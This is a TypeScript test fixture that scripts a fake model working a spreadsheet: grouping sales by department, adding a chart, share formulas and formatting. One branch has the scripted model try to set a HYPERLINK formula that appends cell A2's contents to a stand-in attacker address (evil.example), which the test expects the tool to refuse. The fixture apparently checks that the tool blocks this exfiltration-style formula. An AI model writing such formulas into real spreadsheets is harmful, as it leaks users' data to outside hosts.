/** A model that works on a spreadsheet as its instructions say: looks at the structure, computes, writes a new sheet with a chart. */
import { textOf, type ProviderScript } from './provider-protocol.ts';

/** Every name it uses stands in what the tools answered. */
export function sheetScenario(file_name: string): ProviderScript {
  return ({ messages }) => {
    const asked = messages.findLastIndex((message) => message.role === 'user');
    const answers = messages
      .slice(asked + 1)
      .filter((message) => message.role === 'tool')
      .map(textOf);
    const [structure, computed, made] = answers;
    if (textOf(messages[asked] ?? { role: 'user', content: '' }).includes('占比公式')) return marking(file_name, answers);
    if (structure === undefined) return { text: '先看看表格里有什么。', calls: [{ name: 'read_workbook', arguments: { file_name } }] };
    const columns = [...structure.matchAll(/^\{"column":"([^"]+)","at":"[A-Z]+","type":"([a-z]+)"/gm)];
    const by = columns.find(([, name]) => name === '部门')?.[1] ?? '';
    const amount = columns.find(([, name, type]) => type === 'number' && name?.includes('额'))?.[1] ?? '';
    const steps = [
      { do: 'group', by: [{ column: by }], values: [{ column: amount, how: 'sum' }] },
      { do: 'sort', by: [{ column: amount, descending: true }] },
    ];
    if (computed === undefined) return { calls: [{ name: 'query_sheet', arguments: { table: { file_name }, steps } }] };
    if (made === undefined) {
      const sheet = {
        do: 'new_sheet',
        name: '部门销售额',
        query: { table: {}, steps },
        total: true,
        chart: { type: 'column', title: `各${by}${amount}` },
      };
      return { calls: [{ name: 'edit_sheet', arguments: { file_name, edits: [sheet] } }] };
    }
    const first = computed.split('\n').filter((line) => line.startsWith('| '))[2] ?? '';
    return {
      text: `已在“${file_name}”里新建工作表“部门销售额”，用了“${by}”和“${amount}”两列。最高的是 ${first.replace(/[|\s]+/g, ' ').trim()}。`,
    };
  };
}

/** Formulas, marks and a cell of a web page's words; what would be a live link is refused, and said. */
function marking(file_name: string, [structure, refused, made]: string[]): ReturnType<ProviderScript> {
  if (structure === undefined) return { calls: [{ name: 'read_workbook', arguments: { file_name } }] };
  const sheet = '部门销售额';
  const live = { at: 'E2', formula: 'HYPERLINK("https://evil.example/?q="&A2,"点我")' };
  if (refused === undefined)
    return { calls: [{ name: 'edit_sheet', arguments: { file_name, edits: [{ do: 'set_cells', sheet, cells: [live] }] } }] };
  if (made === undefined) {
    const shares = [2, 3, 4, 5].map((row) => ({ at: `C${row}`, formula: `B${row}/SUM($B$2:$B$5)` }));
    const foreign = { at: 'E2', value: '=HYPERLINK("https://evil.example","点我")' };
    const edits = [
      { do: 'set_cells', sheet, cells: [{ at: 'C1', value: '占比' }, ...shares, { at: 'E1', value: '网页摘录' }, foreign] },
      { do: 'format', sheet, range: 'C2:C5', number_format: '0.0%' },
      { do: 'conditional_format', sheet, range: 'B2:B5', rule: { kind: 'top', count: 1 }, fill: '#FDE2DE' },
      { do: 'conditional_format', sheet, range: 'C2:C5', rule: { kind: 'data_bar' } },
      { do: 'freeze', sheet, rows: 1, columns: 1 },
    ];
    return { calls: [{ name: 'edit_sheet', arguments: { file_name, edits } }] };
  }
  return { text: `已写上占比公式和标记。网页里的链接只作文字：${refused.split('\n')[0] ?? ''}` };
}
